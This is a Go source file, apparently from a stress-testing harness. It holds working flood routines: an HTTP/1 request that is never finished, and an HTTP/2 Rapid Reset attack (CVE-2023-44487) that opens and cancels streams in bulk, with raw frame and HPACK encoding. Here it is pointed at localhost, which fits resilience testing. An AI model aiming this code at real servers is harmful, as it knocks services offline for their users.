package main

import (
	"bytes"
	"crypto/tls"
	"encoding/binary"
	"io"
	"math/rand"
	"strings"
	"time"
)

// aborted is how many requests a flooder begins and gives up on one HTTP/2 connection.
const aborted = 32

const (
	frameHeaders = 1
	frameReset   = 3
	framePing    = 6
	frameGoAway  = 7
	ack          = 1
	endHeaders   = 4
	cancelled    = 8
)

// flooder opens a connection, begins what it never ends, sees that it was heard, and leaves.
func (t *target) flooder(protocol string, flood func(*connection) error) func(*rand.Rand) worker {
	return func(*rand.Rand) worker {
		cache := tls.NewLRUClientSessionCache(1)
		return func() error {
			open, err := t.dial(cache, protocol)
			if err != nil {
				return err
			}
			defer open.Close()
			return flood(open)
		}
	}
}

// floodH1 sends the head of one post, and ends where its body should begin.
func (t *target) floodH1(open *connection) error {
	request := t.request(t.bodies[0])
	head := request[:bytes.Index(request, []byte("\r\n\r\n"))+4]
	if _, err := open.Write(head); err != nil {
		return fault("write")
	}
	open.Conn.(*tls.Conn).CloseWrite()
	if _, err := io.Copy(io.Discard, open); err != nil {
		return fault("read")
	}
	return nil
}

// floodH2 begins and resets streams (CVE-2023-44487), then asks for a sign of life.
func (t *target) floodH2(open *connection) error {
	var text bytes.Buffer
	text.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	text.Write(frame(4, 0, 0, nil))
	block := t.block()
	for number := uint32(0); number < aborted; number++ {
		text.Write(frame(frameHeaders, endHeaders, 2*number+1, block))
		text.Write(frame(frameReset, 0, 2*number+1, []byte{0, 0, 0, cancelled}))
	}
	text.Write(frame(framePing, 0, 0, make([]byte, 8)))
	open.SetDeadline(time.Now().Add(exchangeTimeout))
	if _, err := open.Write(text.Bytes()); err != nil {
		return fault("write")
	}
	for {
		var head [9]byte
		if _, err := io.ReadFull(open.reader, head[:]); err != nil {
			return fault("read")
		}
		length := int(head[0])<<16 | int(head[1])<<8 | int(head[2])
		if _, err := open.reader.Discard(length); err != nil {
			return fault("read")
		}
		switch {
		case head[3] == frameGoAway:
			return fault("goaway")
		case head[3] == framePing && head[4] == ack:
			return nil
		}
	}
}

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	head := make([]byte, 9, 9+len(payload))
	binary.BigEndian.PutUint32(head, uint32(len(payload))<<8)
	head[3], head[4] = kind, flags
	binary.BigEndian.PutUint32(head[5:], stream)
	return append(head, payload...)
}

// block writes down a post's header block without HPACK's tables (RFC 7541, 6.2.2).
func (t *target) block() []byte {
	text := []byte{0x83, 0x87} // POST, https
	text = literal(append(text, 4), t.path+"/v1/signals")
	text = literal(append(text, 1), "localhost")
	for _, header := range headers {
		text = literal(append(text, 0), strings.ToLower(header[0]))
		text = literal(text, header[1])
	}
	return text
}

// literal adds a string of less than 127 bytes, as it is.
func literal(to []byte, value string) []byte {
	return append(append(to, byte(len(value))), value...)
}
